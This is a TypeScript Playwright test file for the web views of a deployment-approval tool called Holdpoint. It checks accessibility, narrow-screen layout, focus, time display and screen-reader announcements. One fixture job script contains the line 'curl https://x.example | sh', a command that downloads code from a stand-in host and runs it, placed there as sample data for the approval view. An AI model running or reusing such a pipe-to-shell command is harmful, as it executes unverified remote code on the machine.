import type { Page } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import { axeFindings } from '../support/page/axe.ts';
import { ended, enqueue } from '../support/page/jobs.ts';
import { stageOfFile } from '../support/page/stage.ts';
import { openPage } from '../support/page/visit.ts';

// A browser on a machine that others use, too.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const stage = stageOfFile();

/** Something of everything that the views show. */
async function world(): Promise<{ readonly waiting: number; readonly done: number }> {
  await stage.open();
  const first = enqueue(stage.scene, { script: ['make', 'a', 'b', 'c', 'd', 'e'] });
  const { id: done } = await stage.scene.approve(first);
  await ended(stage.scene, first, 'success');
  const job = enqueue(stage.scene, {
    script: ['make --fast', 'a', 'b', 'c', 'd', 'e', 'curl https://x.example | sh', `echo \u202e${'x'.repeat(600)}`],
    image: 'ghcr.io/other/image:1',
    variables: [{ key: 'TYPED', value: 'value', public: false, masked: false }],
  });
  const hold = await stage.scene.hold(job, 'waiting_for_approval');
  return { waiting: hold.id, done };
}

/** Every view, and what is there when it is ready. */
const views = ({ waiting, done }: { waiting: number; done: number }): readonly (readonly [string, string])[] => [
  ['/inbox', 'Waits for you'],
  [`/holds/${waiting}`, 'What would change'],
  [`/holds/${done}`, 'What became of it'],
  ['/holds', 'Requested by'],
];
const ready = (page: Page, words: string) => page.getByText(words).first().waitFor();

describe('everybody can use the page', () => {
  it.each(['light', 'dark'] as const)(
    'axe finds nothing wrong in any view, %s',
    async (colorScheme) => {
      const found = await world();
      const page = await stage.see('maria', '/inbox', { colorScheme });
      for (const [path, words] of views(found)) {
        await page.goto(`${stage.scene.agent.hubUrl}${path}`);
        await ready(page, words);
        expect([path, await axeFindings(page)]).toEqual([path, []]);
      }
      await page.keyboard.press('?');
      const out = await openPage(stage.browser, stage.scene.agent.hubUrl, { colorScheme });
      await out.page.getByRole('heading', { name: 'Sign in to Holdpoint' }).waitFor();
      expect(['sign-in', await axeFindings(out.page)]).toEqual(['sign-in', []]);
      await out.close();
    },
    60_000,
  );

  it('no view scrolls sideways at 360 pixels', async () => {
    const found = await world();
    const page = await stage.see('maria', '/inbox', { width: 360, height: 740 });
    for (const [path, words] of views(found)) {
      await page.goto(`${stage.scene.agent.hubUrl}${path}`);
      await ready(page, words);
      expect([path, await page.evaluate('document.documentElement.scrollWidth')]).toEqual([path, 360]);
    }
  });

  it('the focus goes to what is shown, links lead past the header, and what is disabled says why', async () => {
    const { waiting } = await world();
    const page = await stage.see('maria', '/inbox');
    await ready(page, 'Waits for you');
    await page.getByRole('link', { name: 'deploy:production' }).click();
    await ready(page, 'What would change');
    expect(new URL(page.url()).pathname).toBe(`/holds/${waiting}`);
    expect(await page.evaluate('document.activeElement.id')).toBe('main');
    expect(await page.title()).toBe(`deploy:production · hold ${waiting} · Holdpoint`);
    const approve = page.getByRole('button', { name: 'Approve', exact: true });
    expect(await approve.getAttribute('aria-describedby')).toBe('approve-blocked');
    expect(await page.locator('#approve-blocked').textContent()).toContain('Approve is off');
    await page.goto(`${stage.scene.agent.hubUrl}/holds`);
    await ready(page, 'Requested by');
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content');
  });

  it.each([
    [1_280, 900],
    [360, 640],
  ])(
    'T33 the answer is within reach at %i×%i wherever one is, and what lies beneath it does not count as seen',
    async (width, height) => {
      const { waiting } = await world();
      const page = await stage.see('maria', `/holds/${waiting}`, { width, height });
      await ready(page, 'What would change');
      const row = page.locator('.act-row');
      const isWithin = async (): Promise<boolean> => {
        const box = await row.boundingBox();
        return box !== null && box.y >= 0 && box.y + box.height <= height;
      };
      expect(await isWithin()).toBe(true);
      await page.evaluate('scrollTo(0, document.body.scrollHeight)');
      expect(await isWithin()).toBe(true);
      // What stands last on the page is not beneath the bar for good.
      expect(
        await page.evaluate(`document.querySelector('.timeline').getBoundingClientRect().bottom
        <= document.querySelector('.act-bar').getBoundingClientRect().top`),
      ).toBe(true);
      expect(
        await page.evaluate(`[...document.querySelectorAll('.columns *:not(.act-bar)')]
        .filter((one) => ['auto', 'scroll'].includes(getComputedStyle(one).overflowY) && one.scrollHeight > one.clientHeight + 1 && one.querySelector('button') !== null).length`),
      ).toBe(0);
      expect(await axeFindings(page)).toEqual([]);
    },
  );

  it('times are in the reader’s zone, with date and time where one points', async () => {
    await world();
    const page = await stage.see('maria', '/holds');
    const time = page.locator('time').first();
    await time.waitFor();
    expect(await time.getAttribute('title')).toMatch(/\d{2}:\d{2}:\d{2}.*(WET|WEST|GMT)/);
    expect(await time.textContent()).toMatch(/just now|ago/);
  });

  it('changes of state are said to a screen reader', async () => {
    const { waiting } = await world();
    const page = await stage.see('maria', `/holds/${waiting}`);
    await ready(page, 'What would change');
    await page.getByText('Live', { exact: true }).waitFor();
    const hold = await (await stage.scene.as('jonas')).get<{ digest: string }>(`holds/${waiting}`);
    await (await stage.scene.as('jonas')).post(`holds/${waiting}/reject`, { digest: hold.body.digest, comment: 'no' });
    await page.getByRole('log').getByText('This hold has changed: it is “Rejected” now').waitFor();
  });
});
